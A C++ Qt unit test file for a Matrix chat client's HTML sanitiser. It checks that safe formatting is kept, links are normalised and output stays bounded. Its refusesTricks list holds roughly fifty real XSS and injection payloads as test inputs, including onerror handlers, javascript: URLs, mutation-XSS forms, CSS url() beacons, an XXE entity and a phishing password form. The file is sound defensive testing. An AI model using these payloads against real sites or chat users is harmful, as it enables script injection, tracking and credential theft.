// SPDX-FileCopyrightText: 2026 The Kontor authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "chat/chathtml.h"

#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTest>
#include <QUrl>

using namespace Kontor;
using namespace Qt::StringLiterals;

namespace
{
/// What is wrong with an output; empty: nothing. Every tag is one of the few, each closed in order, with attributes of known
/// forms alone.
QString fault(const QString &html)
{
    static const QSet<QString> allowed{u"a"_s,  u"span"_s, u"b"_s,  u"i"_s,  u"u"_s,  u"s"_s,  u"code"_s, u"sup"_s, u"sub"_s,        u"p"_s,   u"div"_s, u"h1"_s, u"h2"_s,    u"h3"_s,      u"h4"_s,
                                       u"h5"_s, u"h6"_s,   u"ul"_s, u"ol"_s, u"li"_s, u"br"_s, u"hr"_s,   u"pre"_s, u"blockquote"_s, u"table"_s, u"thead"_s, u"tbody"_s, u"tr"_s, u"th"_s, u"td"_s, u"caption"_s};
    static const QRegularExpression tag(u"^<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>"_s);
    static const QRegularExpression attribute(u" ([a-z]+)=\"([^\"<>]*)\""_s);
    QStringList open;
    for (qsizetype at = 0; at < html.size(); ++at) {
        if (html[at] == u'>' || html[at] == u'"') {
            return u"a bare sign at %1"_s.arg(at);
        }
        if (html[at] != u'<') {
            continue;
        }
        const auto found = tag.match(html.mid(at, 8000));
        const auto name = found.captured(2);
        if (!found.hasMatch() || !allowed.contains(name)) {
            return u"no such tag: "_s + html.mid(at, 60);
        }
        if (!found.captured(1).isEmpty()) {
            if (open.isEmpty() || open.takeLast() != name) {
                return u"closed out of order: "_s + name;
            }
        } else if (name != u"br" && name != u"hr") {
            open << name;
        }
        for (auto each = attribute.globalMatch(found.captured(3)); each.hasNext();) {
            const auto one = each.next();
            const auto value = one.captured(2);
            static const QRegularExpression colour(u"^color:#[0-9a-f]{6}$"_s);
            static const QRegularExpression number(u"^[0-9]{1,5}$"_s);
            static const QRegularExpression link(u"^(https?://[^/\\s]|mailto:|matrix:(u|r|roomid|user|room)/)"_s);
            const bool isFine = (name == u"span" && one.captured(1) == u"style" && colour.match(value).hasMatch()) || (name == u"span" && one.captured(1) == u"class" && value == u"spoiler")
                || (name == u"ol" && one.captured(1) == u"start" && number.match(value).hasMatch()) || (name == u"a" && one.captured(1) == u"href" && link.match(value).hasMatch());
            if (!isFine) {
                return u"an attribute: "_s + one.captured(0);
            }
        }
        at += found.capturedLength() - 1;
    }
    return open.isEmpty() ? QString() : u"left open: "_s + open.join(u' ');
}
}

/// The HTML of messages.
class ChatHtmlTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void keepsFormatting_data();
    void keepsFormatting();
    void refusesTricks_data();
    void refusesTricks();
    void keepsLinks_data();
    void keepsLinks();
    void saysTrueHosts();
    void becomesText();
    void dropsQuotedReply();
    void isBounded();
    void takesEverything();
};

void ChatHtmlTest::keepsFormatting_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("reduced");
    const auto same = [](const char *name, const QString &html) {
        QTest::newRow(name) << html << html;
    };
    same("bold", u"a <b>b</b> c"_s);
    same("nested", u"<b><i>x</i></b>"_s);
    same("list", u"<ul><li>a</li><li>b</li></ul>"_s);
    same("numbers", u"<ol start=\"3\"><li>a</li></ol>"_s);
    same("quote", u"<blockquote>a</blockquote>"_s);
    same("table", u"<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>"_s);
    same("headings", u"<h1>a</h1><h6>b</h6>"_s);
    QTest::newRow("other names") << u"<strong>a</strong><em>b</em><del>c</del><tt>d</tt>"_s << u"<b>a</b><i>b</i><s>c</s><code>d</code>"_s;
    QTest::newRow("code") << u"<pre><code class=\"language-c\">a  b\n c</code></pre>"_s << u"<pre><code>a  b<br> c</code></pre>"_s;
    QTest::newRow("colour") << u"<span data-mx-color=\"#CC0000\">a</span>"_s << u"<span style=\"color:#cc0000\">a</span>"_s;
    QTest::newRow("font") << u"<font color='#cc0000'>a</font>"_s << u"<span style=\"color:#cc0000\">a</span>"_s;
    QTest::newRow("invisible colour") << u"<b>x</b><font color=\"#ffffff\">a</font>"_s << u"<b>x</b><span>a</span>"_s;
    QTest::newRow("spoiler") << u"<span data-mx-spoiler=\"why\">a</span>"_s << u"<span class=\"spoiler\">a</span>"_s;
    QTest::newRow("entities") << u"<b>&lt;a&gt; &amp;amp; &auml; &#228; &#xE4; &unknown; &</b>"_s << u"<b>&lt;a&gt; &amp;amp; ä ä ä &amp;unknown; &amp;</b>"_s;
    QTest::newRow("no formatting") << u"<p>just text</p>"_s << QString();
    QTest::newRow("left open") << u"<b><i>x"_s << u"<b><i>x</i></b>"_s;
    QTest::newRow("wrong order") << u"<b><i>x</b>y</i>"_s << u"<b><i>x</i></b>y"_s;
    QTest::newRow("entries without ends") << u"<ul><li>a<li>b</ul>"_s << u"<ul><li>a</li><li>b</li></ul>"_s;
    QTest::newRow("entry without a list") << u"<li>a</li><b>b</b>"_s << u"a<b>b</b>"_s;
    QTest::newRow("cell without a table") << u"<td>a</td><b>b</b>"_s << u"a<b>b</b>"_s;
    QTest::newRow("no tag") << u"<b>1 < 2 <3</b>"_s << u"<b>1 &lt; 2 &lt;3</b>"_s;
    QTest::newRow("details") << u"<details><summary>a</summary>b</details>"_s << u"<div><p><b>a</b></p>b</div>"_s;
}

void ChatHtmlTest::keepsFormatting()
{
    QFETCH(QString, html);
    QFETCH(QString, reduced);
    const auto output = ChatHtml::reduce(html);
    QCOMPARE(output.html, reduced);
    QCOMPARE(fault(output.html), QString());
}

void ChatHtmlTest::refusesTricks_data()
{
    QTest::addColumn<QString>("html");
    const QStringList tricks{
        u"<script>alert(1)</script>"_s,
        u"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>"_s,
        u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s,
        u"<script>alert(1)"_s,
        u"<img src=x onerror=alert(1)>"_s,
        u"<img src=\"https://evil.example/pixel.png\">"_s,
        u"<img src=\"mxc://evil.example/abc\" alt=\"&lt;script&gt;\">"_s,
        u"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">"_s,
        u"<image xlink:href=\"https://evil.example/x\">"_s,
        u"<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>"_s,
        u"<svg><style><img src=x onerror=alert(1)></style></svg>"_s,
        u"<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>"_s,
        u"<a href=\"javascript:alert(1)\">x</a>"_s,
        u"<a href=\" &#106;avascript:alert(1)\">x</a>"_s,
        u"<a href=\"java\nscript:alert(1)\">x</a>"_s,
        u"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"_s,
        u"<a href=\"vbscript:x\">x</a><a href=\"file:///etc/passwd\">y</a><a href=\"smb://evil.example/x\">z</a>"_s,
        u"<a href=\"https://bank.example@evil.example/\">bank</a>"_s,
        u"<a href=\"//evil.example/\">x</a><a href=\"/relative\">y</a><a href=\"\">z</a>"_s,
        u"<a href='https://evil.example/\"onmouseover=\"alert(1)'>x</a>"_s,
        u"<a href=\"https://evil.example/\" onclick=\"alert(1)\" style=\"position:fixed\" target=_top>x</a>"_s,
        u"<b style=\"background:url(https://evil.example/x)\" onclick=alert(1)>x</b>"_s,
        u"<span style=\"background-image:url('https://evil.example/x')\">x</span>"_s,
        u"<span data-mx-color=\"#cc0000;background:url(https://evil.example)\">x</span>"_s,
        u"<span data-mx-color=\"red\" color=\"expression(alert(1))\">x</span>"_s,
        u"<font color=\"#cc0000\" face=\"x\" size=\"99\">x</font>"_s,
        u"<div style=\"display:none\">x</div><b hidden>y</b>"_s,
        u"<iframe src=\"https://evil.example\"></iframe><object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">"_s,
        u"<video src=\"https://evil.example/v\" autoplay></video><audio src=\"https://evil.example/a\"></audio>"_s,
        u"<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>"_s,
        u"<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=\"https://evil.example/\">"_s,
        u"<form action=\"https://evil.example\"><input name=password><button>x</button></form>"_s,
        u"<table background=\"https://evil.example/x\"><tr><td background=\"https://evil.example/y\">x</td></tr></table>"_s,
        u"<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>-->"_s,
        u"<![CDATA[<script>alert(1)</script>]]><?xml version=\"1.0\"?><!DOCTYPE html [<!ENTITY x SYSTEM \"https://evil.example\">]>&x;"_s,
        u"<b \"'><img src=x onerror=alert(1)>"_s,
        u"<b a=\"><script>alert(1)</script>\">x</b>"_s,
        u"<b/onclick=alert(1)/>x</b>"_s,
        u"<<b>script>alert(1)<</b>/script>"_s,
        u"<textarea></textarea><script>alert(1)</script></textarea>"_s,
        u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"_s,
        u"<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>"_s,
        u"<template><script>alert(1)</script></template><select><option><script>alert(1)</script></select>"_s,
        u"<ol start=\"1 onclick=alert(1)\"><li value=\"x\">a</ol>"_s,
        u"<code class=\"language-x\" onmouseover=\"alert(1)\">x</code>"_s,
        u"\u202e<b>evil\u202d</b>&#8238;x&#x202E;"_s,
        u"<a href=\"https://evil.example/&quot;&gt;&lt;script&gt;\">x</a>"_s,
        u"<a href=\"matrix:u/../../\"><b>x</b></a><a href=\"matrix:evil\">y</a>"_s,
        u"<a href=\"https://matrix.to/#/javascript:alert(1)\">x</a>"_s,
        u"<a href=\"https://x.example/\"><a href=\"https://y.example/\">x</a></a>"_s,
        (u"<b>"_s + QChar(0) + u"<scr"_s + QChar(0) + u"ipt>x</b>"_s),
    };
    for (qsizetype at = 0; at < tricks.size(); ++at) {
        QTest::newRow(qPrintable(QString::number(at))) << tricks[at];
    }
}

void ChatHtmlTest::refusesTricks()
{
    QFETCH(QString, html);
    for (const auto &around : {QString(html), QString(u"<b>a</b>"_s + html + u"<i>b</i>"_s)}) {
        const auto output = ChatHtml::reduce(around);
        QVERIFY2(fault(output.html).isEmpty(), qPrintable(fault(output.html) + u"\n"_s + output.html));
        QVERIFY2(!output.html.contains(u"url("_s) || !output.html.contains(u"style"_s), qPrintable(output.html));
        QVERIFY(!output.html.contains(u"src=\""_s));
        QVERIFY(!output.html.contains(QChar(0x202e)) && !output.text.contains(QChar(0x202e)));
        static const QRegularExpression remote(u"(?:src|background|style|data|action|poster)=\"[^\"]*//"_s);
        QVERIFY(!remote.match(output.html).hasMatch());
    }
}

void ChatHtmlTest::keepsLinks_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<QString>("link");
    QTest::newRow("web") << u"https://example.org/a?b=c&d#e"_s << u"https://example.org/a?b=c&d#e"_s;
    QTest::newRow("plain web") << u"http://example.org"_s << u"http://example.org"_s;
    QTest::newRow("mail") << u"mailto:anna@example.org"_s << u"mailto:anna@example.org"_s;
    QTest::newRow("international") << u"https://münchen.example/"_s << u"https://xn--mnchen-3ya.example/"_s;
    QTest::newRow("person") << u"https://matrix.to/#/@anna:example.org"_s << u"matrix:u/anna:example.org"_s;
    QTest::newRow("encoded person") << u"https://matrix.to/#/%40anna%3Aexample.org"_s << u"matrix:u/anna:example.org"_s;
    QTest::newRow("room") << u"https://matrix.to/#/#garden:example.org"_s << u"matrix:r/garden:example.org"_s;
    QTest::newRow("encoded room") << u"https://matrix.to/#/%23garden:example.org"_s << u"matrix:r/garden:example.org"_s;
    QTest::newRow("event") << u"https://matrix.to/#/!r:example.org/$e:example.org?via=example.org"_s << u"matrix:roomid/r:example.org/e/e:example.org?via=example.org"_s;
    QTest::newRow("uri") << u"matrix:roomid/r:example.org/e/e?via=example.org"_s << u"matrix:roomid/r:example.org/e/e?via=example.org"_s;
    QTest::newRow("script") << u"javascript:alert(1)"_s << QString();
    QTest::newRow("name in front of the host") << u"https://a@b.example/"_s << QString();
    QTest::newRow("no host") << u"https://"_s << QString();
    QTest::newRow("endless") << QString(u"https://example.org/"_s + QString(5000, u'a')) << QString();
}

void ChatHtmlTest::keepsLinks()
{
    QFETCH(QString, href);
    QFETCH(QString, link);
    QCOMPARE(ChatHtml::link(href), link);
    const auto output = ChatHtml::reduce(u"<a href=\""_s + href.toHtmlEscaped() + u"\">there</a>"_s);
    QCOMPARE(output.html.contains(u"href"_s), !link.isEmpty());
    QCOMPARE(fault(output.html), QString());
}

void ChatHtmlTest::saysTrueHosts()
{
    QCOMPARE(ChatHtml::reduce(u"<a href=\"https://evil.example/\">https://bank.example/</a>"_s).text, u"https://bank.example/ [evil.example]"_s);
    QCOMPARE(ChatHtml::reduce(u"<a href=\"https://evil.example/\">www.bank.example</a>"_s).text, u"www.bank.example [evil.example]"_s);
    QCOMPARE(ChatHtml::reduce(u"<a href=\"https://www.bank.example/x\">bank.example</a>"_s).text, u"bank.example"_s);
    QCOMPARE(ChatHtml::reduce(u"<a href=\"https://example.org/\">see README.md here</a>"_s).text, u"see README.md here"_s);
}

void ChatHtmlTest::becomesText()
{
    QCOMPARE(ChatHtml::reduce(u"<p>a</p><p>b<br>c</p>"_s).text, u"a\n\nb\nc"_s);
    QCOMPARE(ChatHtml::reduce(u"x<ul><li>a</li><li>b</li></ul><ol start=\"4\"><li>c</li><li>d</li></ol>"_s).text, u"x\n• a\n• b\n4. c\n5. d"_s);
    QCOMPARE(ChatHtml::reduce(u"<blockquote>a<br>b</blockquote>c"_s).text, u"> a\n> b\n\nc"_s);
    QCOMPARE(ChatHtml::reduce(u"a   \n  b<img src=\"mxc://x/y\" alt=\":fox:\">"_s).text, u"a b:fox:"_s);
    QCOMPARE(ChatHtml::reduce(u"<script>x</script>"_s).text, QString());
}

void ChatHtmlTest::dropsQuotedReply()
{
    const auto html = u"<mx-reply><blockquote><a href=\"https://matrix.to/#/!r:x/$e\">In reply to</a> <b>old</b></blockquote></mx-reply>new <b>words</b>"_s;
    QCOMPARE(ChatHtml::reduce(html).html, u"new <b>words</b>"_s);
    QVERIFY(ChatHtml::reduce(html, ChatHtml::Reply::Keep).text.contains(u"old"_s));
    QVERIFY(ChatHtml::reduce(u"<mx-reply>never ends <b>x</b>"_s).text.contains(u"never ends"_s));
}

void ChatHtmlTest::isBounded()
{
    const QStringList giants{QString(u"<b>"_s).repeated(100'000),
                             QString(u"<a href=\""_s).repeated(50'000),
                             QString(u"<p><font color=\"#cc0000\">"_s).repeated(20'000),
                             QString(u"<table><tr><td>"_s).repeated(20'000),
                             QString(u"<blockquote>x"_s).repeated(20'000),
                             QString(u"<!--"_s).repeated(50'000),
                             QString(u"</b>"_s).repeated(50'000),
                             QString(u"<x \"'"_s).repeated(50'000),
                             QString(u"<mx-reply>"_s).repeated(20'000),
                             QString(u"&#x1F600;"_s).repeated(30'000),
                             QString(4'000'000, u'<')};
    for (const auto &giant : giants) {
        const auto output = ChatHtml::reduce(giant);
        QVERIFY(output.html.size() < 2 * ChatHtml::longestOutput);
        QCOMPARE(fault(output.html), QString());
        QCOMPARE(output.wasCut || output.html.isEmpty(), true);
    }
    const auto deep = ChatHtml::reduce(QString(u"<div><b>"_s).repeated(300) + u"x"_s).html;
    QVERIFY(deep.count(u"<div>"_s) + deep.count(u"<b>"_s) <= ChatHtml::deepest);
    QVERIFY(deep.contains(u'x'));
}

void ChatHtmlTest::takesEverything()
{
    const QStringList pieces{u"<"_s,  u">"_s,    u"\""_s,       u"'"_s,  u"="_s,    u"/"_s,      u"a"_s,     u" "_s,    u"<b"_s,   u"</"_s,     u"href"_s,   u"javascript:"_s, u"https://x.example"_s, u"<a "_s,
                             u"<p>"_s, u"</p>"_s, u"<script"_s, u"-->"_s, u"<!--"_s, u"&lt;"_s, u"&#60;"_s, u"<td>"_s, u"<tr>"_s, u"<table>"_s, u"<mx-reply>"_s, u"\n"_s,   u"<li>"_s, u"<ul>"_s, u"style"_s, u"&"_s,
                             u";"_s,  u"<img "_s, u"alt="_s,    u"<span data-mx-color=\"#cc0000\">"_s};
    QRandomGenerator random(11);
    for (int round = 0; round < 5000; ++round) {
        QString html;
        const auto count = random.bounded(60);
        for (int at = 0; at < count; ++at) {
            html += pieces[random.bounded(pieces.size())];
        }
        const auto output = ChatHtml::reduce(html);
        QVERIFY2(fault(output.html).isEmpty(), qPrintable(html + u"\n"_s + output.html + u"\n"_s + fault(output.html)));
    }
}

QTEST_GUILESS_MAIN(ChatHtmlTest)
#include "chathtmltest.moc"
